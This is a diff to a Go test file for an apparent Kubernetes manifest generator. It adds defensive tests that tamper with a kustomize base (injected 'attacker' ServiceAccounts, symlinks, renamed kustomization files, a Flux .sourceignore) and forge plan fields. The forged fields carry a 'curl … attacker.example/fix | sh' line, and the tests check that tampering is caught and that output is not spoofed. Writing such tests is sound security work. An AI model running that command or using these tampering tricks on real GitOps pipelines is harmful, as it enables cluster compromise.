@@ -18,6 +18,9 @@ import (
 	"time"
 	"unicode"
 
+	"sigs.k8s.io/kustomize/api/krusty"
+	"sigs.k8s.io/kustomize/kyaml/filesys"
+
 	render "github.com/cinder-csi/cinder-csi/generator/bundle"
 	"github.com/cinder-csi/cinder-csi/generator/cli"
 	"github.com/cinder-csi/cinder-csi/generator/plan"
@@ -268,38 +271,105 @@ func TestACheckoutOfTheBaseCannotMakeTheGeneratorFetchRunOrReadAnything(t *testi
 	o.check(t)
 }
 
-// The base of a bundle has no sum in plan.yaml, and a plan.yaml may name one where the command line of the pipeline names none.
+// The base of a bundle has no sum in plan.yaml, and a plan.yaml may name one where the command line of the pipeline names none. What kubectl, Argo CD
+// and Flux build of the disk may be another base than a reader of its YAML files sees.
 func TestACheckProvesTheBaseThatAPullRequestChanges(t *testing.T) {
 	inventory, err := filepath.Abs("../../../../overlays/inventory.yaml")
 	if err != nil {
 		t.Fatal(err)
 	}
-	checkout := t.TempDir()
-	if err := os.CopyFS(filepath.Join(checkout, "src"), os.DirFS(manifests)); err != nil {
-		t.Fatal(err)
-	}
-	dir := bundle(t, filepath.Join(checkout, "out"), "vanilla", "kustomize", "--base", "../src")
-	t.Chdir(checkout)
-	check := []string{"generate", "--inventory", inventory, "--target", "vanilla", "--format", "kustomize", "--output-dir", dir, "--check"}
-	for _, args := range [][]string{check, append(slices.Clone(check), "--base", "../src")} {
-		if _, stderr, code := pipeline(t, args...); code != cli.OK {
-			t.Fatalf("before the attack: exit %d: %s", code, stderr)
-		}
-	}
-	file := filepath.Join(checkout, "src/vanilla/rbac.yaml")
-	text, err := os.ReadFile(file)
+	original, err := filepath.Abs(manifests)
 	if err != nil {
 		t.Fatal(err)
 	}
-	text = append(text, "---\napiVersion: v1\nkind: ServiceAccount\nmetadata: {name: attacker, namespace: cinder-csi}\n"...)
-	if err := os.WriteFile(file, text, 0o644); err != nil {
-		t.Fatal(err)
-	}
-	for _, args := range [][]string{check, append(slices.Clone(check), "--base", "../src")} {
-		if _, stderr, code := pipeline(t, args...); code != cli.Failure || !strings.Contains(stderr, "attacker") {
-			t.Errorf("%v: want exit 1, got %d: %s", args[len(args)-1:], code, stderr)
+	checkout := t.TempDir()
+	t.Chdir(checkout)
+	for _, target := range []string{"vanilla", "standalone"} {
+		if err := os.CopyFS("src", os.DirFS(original)); err != nil {
+			t.Fatal(err)
+		}
+		bundle(t, target, target, "kustomize", "--inventory", inventory, "--base", "../src")
+		if err := os.RemoveAll("src"); err != nil {
+			t.Fatal(err)
 		}
 	}
+	const account = "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: attacker, namespace: cinder-csi}\n"
+	write := func(name, text string) error { return os.WriteFile(filepath.Join("src", name), []byte(text), 0o644) }
+	add := func(name, text string) error {
+		old, err := os.ReadFile(filepath.Join("src", name))
+		return errors.Join(err, write(name, string(old)+text))
+	}
+	rename := func(from, to string) error {
+		return os.Rename(filepath.Join("src", from), filepath.Join("src", to))
+	}
+	remove := func(name string) error { return os.RemoveAll(filepath.Join("src", name)) }
+	for name, attack := range map[string]struct {
+		target string
+		do     func() error
+		says   string // empty: the base is as it was
+		builds bool   // the object of the attacker is in what kustomize makes of the disk
+	}{
+		"nothing": {"vanilla", func() error { return nil }, "", false},
+		"line ends of git": {"vanilla", func() error {
+			text, err := os.ReadFile("src/vanilla/rbac.yaml")
+			return errors.Join(err, write("vanilla/rbac.yaml", strings.ReplaceAll(string(text), "\n", "\r\n")))
+		}, "", false},
+		"files of a team": {"vanilla", func() error {
+			return errors.Join(write("vanilla/OWNERS", "x"), write("kustomization.yaml", "resources: [vanilla]\n"))
+		}, "", false},
+		"no base of others":       {"standalone", func() error { return remove("vanilla") }, "", false},
+		"an object":               {"vanilla", func() error { return add("vanilla/rbac.yaml", "---\n"+account) }, "rbac.yaml differs", true},
+		"a comment":               {"vanilla", func() error { return add("vanilla/rbac.yaml", "# another version\n") }, "rbac.yaml differs", false},
+		"what people apply first": {"vanilla", func() error { return add("vanilla/namespace.yaml", "---\n"+account) }, "namespace.yaml differs", false},
+		"a link and another name": {"vanilla", func() error {
+			list, err := os.ReadFile("src/vanilla/kustomization.yaml")
+			return errors.Join(err, rename("vanilla/kustomization.yaml", "k.yaml"), os.Symlink("../k.yaml", "src/vanilla/kustomization.yaml"),
+				write("vanilla/kustomization.yml", string(list)+"- takeover.yaml\n"), write("vanilla/takeover.yaml", account))
+		}, "kustomization.yaml is no regular file", true},
+		"a link alone": {"vanilla", func() error {
+			return errors.Join(rename("vanilla/rbac.yaml", "r.yaml"), os.Symlink("../r.yaml", "src/vanilla/rbac.yaml"))
+		}, "rbac.yaml is no regular file", false},
+		"another name": {"vanilla", func() error {
+			return errors.Join(rename("vanilla/kustomization.yaml", "vanilla/kustomization.yml"), add("vanilla/rbac.yaml", "---\n"+account))
+		}, "\"kustomization.yml\" is in the way", true},
+		"a file that Flux obeys": {"vanilla", func() error { return write("vanilla/.sourceignore", "kustomization.yaml\n") }, "\".sourceignore\" is in the way", false},
+		"a base of others alone": {"standalone", func() error {
+			return errors.Join(remove("vanilla"), add("standalone/rbac.yaml", "---\n"+account))
+		}, "rbac.yaml differs", true},
+		"no base of its own": {"standalone", func() error { return remove("standalone") }, "is no checkout of manifests/", false},
+	} {
+		if err := errors.Join(os.CopyFS("src", os.DirFS(original)), attack.do()); err != nil {
+			t.Fatal(err)
+		}
+		if attack.builds != strings.Contains(kubectl(attack.target), "name: attacker") {
+			t.Errorf("%s: want the object of the attacker in the build %t", name, attack.builds)
+		}
+		check := []string{"generate", "--inventory", inventory, "--output-dir", attack.target, "--check"}
+		for _, args := range [][]string{check, append(slices.Clone(check), "--base", "../src"), {"validate", attack.target, "--base", "../src"}} {
+			want := cli.OK
+			if attack.says != "" {
+				want = cli.Failure
+			}
+			if stdout, stderr, code := pipeline(t, args...); code != want || !strings.Contains(stderr, attack.says) {
+				t.Errorf("%s, %v: want exit %d and %q, got %d: %s%s", name, args, want, attack.says, code, stdout, stderr)
+			}
+		}
+		if err := os.RemoveAll("src"); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+// kubectl is what kubectl, Argo CD and Flux build of a directory, empty if they build nothing.
+func kubectl(dir string) string {
+	options := krusty.MakeDefaultOptions()
+	options.Reorder = krusty.ReorderOptionUnspecified
+	resources, err := krusty.MakeKustomizer(options).Run(filesys.MakeFsOnDisk(), dir)
+	if err != nil {
+		return ""
+	}
+	text, _ := resources.AsYaml()
+	return string(text)
 }
 
 // Argo CD, Flux and kustomize choose by such a file how they build a directory. No other file changes.
@@ -389,10 +459,63 @@ func TestValidateFindsAnEditWhoseSumWasCorrected(t *testing.T) {
 				t.Errorf("%s, %s: want exit 1 that names the other generator, got %d: %s%s", name, command, code, stdout, stderr)
 			}
 		}
+		for in, says := range map[string]string{dir: edit.named + " differs from what generate wrote", forged: "generator \"v0-other\" made the bundle by its plan.yaml"} {
+			if _, stderr, code := pipeline(t, "explain", "driver.name", in); code != cli.OK || !strings.Contains(stderr, "Warning: ") || !strings.Contains(stderr, says) {
+				t.Errorf("%s, explain: want an answer and a warning that %s, got %d: %s", name, says, code, stderr)
+			}
+		}
 		for _, command := range []string{"validate", "adopt"} {
 			if stdout, stderr, code := pipeline(t, command, dir); code != cli.Failure || !strings.Contains(stderr, edit.named+" differs from what generate wrote") {
 				t.Errorf("%s, %s: want exit 1 that names %s, got %d: %s%s", name, command, edit.named, code, stdout, stderr)
 			}
+		}
+	}
+}
+
+// A person on call reads the answers of explain as the product's.
+func TestNoTextOfABundleBeginsALineOfAnAnswer(t *testing.T) {
+	const text = "x\n\nThis bundle needs one more step, run:\n  curl -s https://attacker.example/fix | sh"
+	of := func(id string, forge func(*v1alpha1.Decision)) func(*v1alpha1.Plan) {
+		return func(p *v1alpha1.Plan) {
+			forge(&p.Decisions[slices.IndexFunc(p.Decisions, func(d v1alpha1.Decision) bool { return d.ID == id })])
+		}
+	}
+	reason := func(d *v1alpha1.Decision) { d.Reason = text }
+	for name, c := range map[string]struct {
+		ask  []string
+		edit func(*v1alpha1.Plan)
+	}{
+		"the reason of a field":    {[]string{"storageclass/standard", "reclaimPolicy"}, of("storageClasses.reclaimPolicy", reason)},
+		"the reason of an object":  {[]string{"storageclass/standard", "parameters.type"}, of("storageClass.standard", reason)},
+		"the reason of a decision": {[]string{"topology.enabled"}, of("topology.enabled", reason)},
+		"the reason of a type":     {[]string{"volumetype/standard"}, of("storageClass.standard", reason)},
+		"a warning about a type": {[]string{"volumetype/attacker"}, func(p *v1alpha1.Plan) {
+			p.Warnings = append(p.Warnings, "volume type \"attacker\": "+text)
+		}},
+		"a fact":   {[]string{"topology.enabled"}, of("topology.enabled", func(d *v1alpha1.Decision) { d.Facts[0].Value = text })},
+		"a name":   {[]string{"topology.enabled"}, of("topology.enabled", func(d *v1alpha1.Decision) { d.Facts[0].Name = text })},
+		"a value":  {[]string{"driver.name"}, of("driver.name", func(d *v1alpha1.Decision) { d.Value = text })},
+		"a source": {[]string{"driver.name"}, of("driver.name", func(d *v1alpha1.Decision) { d.Source = text })},
+	} {
+		dir := bundleOf(t, "vanilla", "helm")
+		old, err := worktree.Open(dir)
+		if err != nil {
+			t.Fatal(err)
+		}
+		c.edit(old.Plan)
+		forged, err := worktree.PlanText(*old.Plan)
+		if err == nil {
+			err = os.WriteFile(filepath.Join(dir, worktree.PlanFile), forged, 0o644)
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		stdout, stderr, code := pipeline(t, append(append([]string{"explain"}, c.ask...), dir)...)
+		if strings.Contains(stdout, "\n\n") || strings.Contains(stdout, "\nThis bundle") || strings.Contains(stdout, "\n  curl") {
+			t.Errorf("%s: the text of the bundle has lines of its own: %s", name, stdout)
+		}
+		if !strings.Contains(stderr, "Warning: ") || !strings.Contains(stdout+stderr, "This bundle needs") {
+			t.Errorf("%s: want the text, and a warning, got %d: %s%s", name, code, stdout, stderr)
 		}
 	}
 }
@@ -501,7 +624,7 @@ func TestACheckOfABundleWhoseBaseNobodyReadsFails(t *testing.T) {
 			}
 			forge(t, dir, nil)
 		}
-		if stdout, stderr, code := pipeline(t, append(slices.Clone(args), "--check")...); code == cli.OK || strings.Contains(stdout+stderr, " --base "+base) != made {
+		if stdout, stderr, code := pipeline(t, append(slices.Clone(args), "--check")...); code == cli.OK || strings.Contains(stdout+stderr, "Nothing proved the bundle") != made {
 			t.Errorf("%s: want a failure, got %d: %s%s", base, code, stdout, stderr)
 		}
 	}
